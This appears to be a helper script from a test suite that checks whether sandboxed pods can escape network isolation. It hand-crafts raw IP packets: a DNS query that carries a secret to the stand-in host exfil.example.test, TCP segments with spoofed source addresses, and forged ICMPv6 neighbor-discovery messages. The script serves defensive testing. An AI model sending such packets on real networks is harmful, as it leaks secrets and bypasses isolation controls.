#!/usr/bin/env python3
"""Sends hand-made IP packets from a raw socket, for the tests that try to
break P1 from inside a sandbox or a pod (it needs CAP_NET_RAW).

  rawpkt.py udp-dns SRC DST DPORT SECRET   a DNS query for SECRET.exfil.example.test
  rawpkt.py tcp SRC DST SPORT DPORT FLAGS [DATA]   one TCP segment (FLAGS: S, A, PA, SA...)
  rawpkt.py nd TYPE DST DATA               ICMPv6 type TYPE (133, 135, 136) to DST, hop
                                           limit 255, DATA as its body (the kernel's source)

SRC is the source address written into the packet (any address: spoofing is
the point). Each packet is sent three times, 0.1 s apart; a send the rules
refuse (EPERM) is counted, not fatal. Prints "sent N refused M".
"""

import socket
import struct
import sys
import time

FLAGS = {"F": 0x01, "S": 0x02, "R": 0x04, "P": 0x08, "A": 0x10}


def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    s = (s >> 16) + (s & 0xffff)
    return ~(s + (s >> 16)) & 0xffff


def ip_packet(src, dst, num, l4, csum_off):
    v6 = ":" in src
    fam = socket.AF_INET6 if v6 else socket.AF_INET
    a, b = socket.inet_pton(fam, src), socket.inet_pton(fam, dst)
    pseudo = a + b + (struct.pack("!I3xB", len(l4), num) if v6
                      else struct.pack("!xBH", num, len(l4)))
    c = csum(pseudo + l4)
    l4 = l4[:csum_off] + struct.pack("!H", c) + l4[csum_off + 2:]
    if v6:
        return fam, struct.pack("!IHBB", 0x60000000, len(l4), num, 64) + a + b + l4
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(l4), 1, 0, 64, num, 0) + a + b
    return fam, ip[:10] + struct.pack("!H", csum(ip)) + ip[12:] + l4


def send(fam, packet, dst, sock=None):
    s = sock or socket.socket(fam, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sent = refused = 0
    for _ in range(3):
        try:
            s.sendto(packet, (dst, 0))
            sent += 1
        except PermissionError:
            refused += 1
        time.sleep(0.1)
    return sent, refused


def main(argv):
    kind = argv[0]
    if kind == "udp-dns":
        src, dst, port, secret = argv[1], argv[2], int(argv[3]), argv[4]
        qn = b"".join(bytes([len(l)]) + l.encode()
                      for l in (secret + ".exfil.example.test").split("."))
        body = struct.pack("!HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0) + qn + b"\0" + \
            struct.pack("!HH", 1, 1)
        l4 = struct.pack("!HHHH", 40000, port, 8 + len(body), 0) + body
        fam, pkt = ip_packet(src, dst, 17, l4, 6)
        result = send(fam, pkt, dst)
    elif kind == "tcp":
        src, dst, sport, dport, flags = argv[1], argv[2], int(argv[3]), int(argv[4]), argv[5]
        data = argv[6].encode() if len(argv) > 6 else b""
        bits = sum(FLAGS[f] for f in flags)
        l4 = struct.pack("!HHIIBBHHH", sport, dport, 1000, 1000 if bits & 0x10 else 0,
                         5 << 4, bits, 65535, 0, 0) + data
        fam, pkt = ip_packet(src, dst, 6, l4, 16)
        result = send(fam, pkt, dst)
    elif kind == "nd":
        typ, dst, data = int(argv[1]), argv[2], argv[3].encode()
        s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_UNICAST_HOPS, 255)
        body = struct.pack("!BBHI", typ, 0, 0, 0) + socket.inet_pton(socket.AF_INET6, dst) + data
        result = send(socket.AF_INET6, body, dst, sock=s)
    else:
        sys.exit(f"rawpkt.py: unknown kind {kind!r}")
    print("sent %d refused %d" % result, flush=True)


if __name__ == "__main__":
    main(sys.argv[1:])
